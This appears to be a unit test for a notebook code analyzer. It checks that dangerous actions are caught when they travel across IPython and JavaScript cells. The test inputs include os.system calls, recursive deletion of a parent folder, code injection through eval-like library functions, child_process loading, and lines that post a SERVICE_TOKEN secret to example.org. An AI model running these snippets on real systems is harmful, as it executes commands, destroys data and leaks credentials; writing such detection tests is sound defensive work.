/* SPDX-License-Identifier: MIT
 * Forbidden actions with one step in each cell: one of the cells is denied, whatever the way of the
 * value from cell to cell. */
#include "tests/unit/analyzer/past_rig.h"

struct travel {
    struct part parts[7];
};

/* However something powerful travels from cell to cell, one of the cells is denied. */
static void check_travels(const char *language, const struct travel *rows, size_t count)
{
    int wrong = 0;
    for (size_t i = 0; i < 2 * count; i++) {
        const struct part *parts = rows[i / 2].parts;
        CBX_AUTO_DONE(past) past;
        char denied[128] = "";
        cbx_past_begin(&past, &(struct cbx_sha256){ 0 });
        for (; parts->text != NULL && denied[0] == '\0'; parts++) {
            CBX_AUTO_DONE(arena) arena;
            cbx_arena_init(&arena, CBX_ANALYSIS_ARENA_MAX);
            struct cbx_analysis request = { .source = cbx_str_of(parts->text),
                                            .language = cbx_str_of(language),
                                            .past = &past };
            judge(&request, &arena, denied);
            if (i % 2 != 0) {
                add_judged(&past, language, parts->text);
            } else {
                cbx_past_add_cell(&past, cbx_str_of(parts->text));
            }
        }
        if (denied[0] == '\0') {
            printf("%s %zu%s passed: %s\n", language, i / 2, i % 2 != 0 ? " summarised" : "",
                   parts[-1].text);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

static void power_that_travels_over_cells_is_found(void **state)
{
    (void)state;
    static const struct travel python[] = {
        { { { NULL, "import os" },
            { NULL, "l = [os]" },
            { NULL, "x = l[0]" },
            { NULL, "x.system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "class C: pass" },
            { NULL, "c = C()" },
            { NULL, "c.m = os" },
            { NULL, "c.m.system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "def g(): yield os" },
            { NULL, "it = g()" },
            { NULL, "next(it).system('id')" } } },
        { { { NULL, "import os" }, { NULL, "f = lambda: os" }, { NULL, "f().system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "t = (1, os)" },
            { NULL, "a, b = t" },
            { NULL, "b.system('id')" } } },
        { { { NULL, "import os" }, { NULL, "p = os.path" }, { NULL, "p.os.system('id')" } } },
        { { { NULL, "import os\ndef a(): return os" },
            { NULL, "def b(): return a()" },
            { NULL, "c = b" },
            { NULL, "c().system('id')" } } },
        { { { NULL, "def s():\n    global q\n    import os as q" },
            { NULL, "s()" },
            { NULL, "q.system('id')" } } },
        { { { NULL, "from os import *" }, { NULL, "system('id')" } } },
        /* the folder that a function of an earlier cell changes to */
        { { { NULL, "import os\ndef up(): os.chdir('..')" },
            { NULL, "up()" },
            { NULL, "os.remove('x')" } } },
        { { { NULL, "import os\ndef go(d): os.chdir(d)" },
            { NULL, "go('..')" },
            { NULL, "os.remove('x')" } } },
        { { { NULL, "import os\nup = lambda: os.chdir('..')" },
            { NULL, "f = up" },
            { NULL, "f()" },
            { NULL, "os.remove('x')" } } },
        { { { NULL, "import os\nclass C:\n    def go(self): os.chdir(self.d)" },
            { NULL, "c = C()\nc.d = '..'" },
            { NULL, "c.go()" },
            { NULL, "os.remove('x')" } } },
        { { { NULL, "import os, shutil\np = os.getcwd()" },
            { NULL, "q = os.path.dirname(p)" },
            { NULL, "shutil.rmtree(q)" } } },
        /* texts that libraries evaluate */
        { { { NULL, "import sympy" },
            { NULL, "t = '__imp'" },
            { NULL, "u = t + 'ort__(\"os\")'" },
            { NULL, "sympy.sympify(u)" } } },
        { { { NULL, "import pandas as pd" },
            { NULL, "q = open('f').read()" },
            { NULL, "pd.eval(q)" } } },
        { { { NULL, "import statsmodels.formula.api as smf" },
            { NULL, "terms = ['x']" },
            { NULL, "terms.append(open('f').read())" },
            { NULL, "f = 'y ~ ' + ' + '.join(terms)" },
            { NULL, "smf.ols(f, data=1)" } } },
        { { { NULL, "import os" }, { NULL, "vars()['z'] = os" }, { NULL, "z.system('id')" } } },
        { { { NULL, "import os" }, { NULL, "for k in [os]: pass" }, { NULL, "k.system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "with open('f') as f: y = os" },
            { NULL, "y.system('id')" } } },
        { { { NULL, "try:\n    import os as o\nexcept ImportError:\n    o = None" },
            { NULL, "o.system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "x = os if True else None" },
            { NULL, "x.system('id')" } } },
        { { { NULL, "import os" }, { NULL, "d = dict(a=os)" }, { NULL, "d['a'].system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "def f(x=os): return x" },
            { NULL, "f().system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "class A:\n    def m(self): return os" },
            { NULL, "a = A()" },
            { NULL, "n = a.m" },
            { NULL, "n().system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "s = {1: {2: os}}" },
            { NULL, "s[1][2].system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "x = [os for _ in range(3)]" },
            { NULL, "x[1].system('id')" } } },
        { { { NULL, "import collections, os" },
            { NULL, "q = collections.deque()" },
            { NULL, "q.append(os)" },
            { NULL, "q.pop().system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "import queue\nq = queue.Queue()" },
            { NULL, "q.put(os)" },
            { NULL, "q.get().system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "def outer(m):\n    def inner(): return m\n    return inner" },
            { NULL, "h = outer(os)" },
            { NULL, "h().system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "class B:\n    def __init__(self, m): self.m = m" },
            { NULL, "b = B(os)" },
            { NULL, "b.m.system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "class B:\n    def __init__(self, m): self.m = m\n    def go(self): "
                    "self.m.system('id')" },
            { NULL, "b = B(os)" } } },
        { { { NULL, "fs = []" },
            { NULL, "import os\nfs.append(lambda: os)" },
            { NULL, "for f in fs: f().system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "x = y = z = os" },
            { NULL, "w = z" },
            { NULL, "w.system('id')" } } },
        { { { NULL, "import os" },
            { NULL, "def deco(f): return lambda: os" },
            { NULL, "@deco\ndef g(): pass" },
            { NULL, "g().system('id')" } } },
        { { { NULL, "g = None\ndef set_g(v):\n    global g\n    g = v" },
            { NULL, "import os" },
            { NULL, "set_g(os)" },
            { NULL, "g.system('id')" } } },
        { { { NULL, "class S: pass" },
            { NULL, "def put(v): S.v = v" },
            { NULL, "import os" },
            { NULL, "put(os)" },
            { NULL, "S.v.system('id')" } } },
    };
    static const struct travel javascript[] = {
        { { { NULL, "const m = new Map()" },
            { NULL, "m.set('r', require)" },
            { NULL, "m.get('r')('child_process')" } } },
        { { { NULL, "function mk(f) { return (x) => f(x) }" },
            { NULL, "const k = mk(require)" },
            { NULL, "k('child_process')" } } },
        { { { NULL, "let o = {}" },
            { NULL, "o.r = require" },
            { NULL, "const { r } = o" },
            { NULL, "r('child_process')" } } },
        { { { NULL, "const a = [require]" },
            { NULL, "const [b] = a" },
            { NULL, "b('child_process')" } } },
        { { { NULL, "var r\nif (true) { r = require }" }, { NULL, "r('child_process')" } } },
        { { { NULL, "class C { constructor(f) { this.f = f } }" },
            { NULL, "const c = new C(require)" },
            { NULL, "c.f('child_process')" } } },
        { { { NULL, "globalThis.zz = require" }, { NULL, "zz('child_process')" } } },
        { { { NULL, "function g(f = require) { return f }" }, { NULL, "g()('child_process')" } } },
        { { { NULL, "const p = Promise.resolve(require)" },
            { NULL, "p.then((q) => q('child_process'))" } } },
        { { { NULL, "let h" },
            { NULL, "(() => { h = require })()" },
            { NULL, "h('child_process')" } } },
        { { { NULL, "const x = process" },
            { NULL, "const y = x.mainModule" },
            { NULL, "y.require('child_process')" } } },
    };
    check_travels("ipython", python, sizeof(python) / sizeof(python[0]));
    check_travels("javascript", javascript, sizeof(javascript) / sizeof(javascript[0]));
}

#define IMPORTS "import os, requests, logging, sqlite3"
#define TOKEN   "os.environ['SERVICE_TOKEN']"
#define SEND    "requests.post('https://example.org/', json=a)"
static const struct travel python_names[] = {
    { { { NULL, IMPORTS "\na = []" },
        { NULL, "b = a" },
        { NULL, "b.append(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS },
        { NULL, "b = a = []" },
        { NULL, "b.append(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\na = {}" },
        { NULL, "b = a" },
        { NULL, "c = b" },
        { NULL, "c['k'] = " TOKEN },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\nb = []" },
        { NULL, "a = b" },
        { NULL, "b.append(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\na = []\nclass C: pass\no = C()" },
        { NULL, "o.x = a" },
        { NULL, "o.x.append(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\na = []\nd = {}" },
        { NULL, "d['x'] = a" },
        { NULL, "d['x'].append(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\na = []" },
        { NULL, "d = {'x': a}" },
        { NULL, "d['x'].append(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\nb = []" },
        { NULL, "a = {'x': b}" },
        { NULL, "b.append(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\na = []" },
        { NULL, "b, c = a, 1" },
        { NULL, "b.append(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\na = []\nb = a" },
        { NULL, "def f(x): b.append(x)" },
        { NULL, "f(" TOKEN ")" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\nclass C:\n    def __init__(self, out): self.out = out\n"
                        "    def run(self): self.out.append(" TOKEN ")\na = []" },
        { NULL, "c = C(a)" },
        { NULL, "c.run()" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\nlogging.basicConfig(filename='x.log')" },
        { NULL, "logging.info(os.environ)" },
        { NULL, "a = open('x.log').read()" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\ncon = sqlite3.connect('a.db')" },
        { NULL, "con.execute('insert into t values (?)', (" TOKEN ",))" },
        { NULL, "a = con.execute('select * from t').fetchall()" },
        { NULL, SEND } } },
    { { { NULL, IMPORTS "\nclass C: pass\no = C()" },
        { NULL, "setattr(o, 'k', " TOKEN ")" },
        { NULL, "a = vars(o)" },
        { NULL, SEND } } },
};
#undef SEND
#define SEND "fetch('https://example.org/', { method: 'POST', body: JSON.stringify(a) })"
static const struct travel javascript_names[] = {
    { { { NULL, "const a = []" },
        { NULL, "const b = a" },
        { NULL, "b.push(process.env.SERVICE_TOKEN)" },
        { NULL, SEND } } },
    { { { NULL, "const a = [], o = {}" },
        { NULL, "o.x = a" },
        { NULL, "o.x.push(process.env.SERVICE_TOKEN)" },
        { NULL, SEND } } },
    { { { NULL, "var a, b" },
        { NULL, "a = b = []" },
        { NULL, "b.push(process.env.SERVICE_TOKEN)" },
        { NULL, SEND } } },
    { { { NULL, "const a = {}" },
        { NULL, "Reflect.set(a, 'k', process.env.SERVICE_TOKEN)" },
        { NULL, SEND } } },
};

/* b = a in one cell, b.append(secret) in another: then `a` holds the secret. */
static void secrets_that_travel_under_other_names_are_found(void **state)
{
    (void)state;
    check_travels("ipython", python_names, sizeof(python_names) / sizeof(python_names[0]));
    check_travels("javascript", javascript_names,
                  sizeof(javascript_names) / sizeof(javascript_names[0]));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(power_that_travels_over_cells_is_found),
        cmocka_unit_test(secrets_that_travel_under_other_names_are_found),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
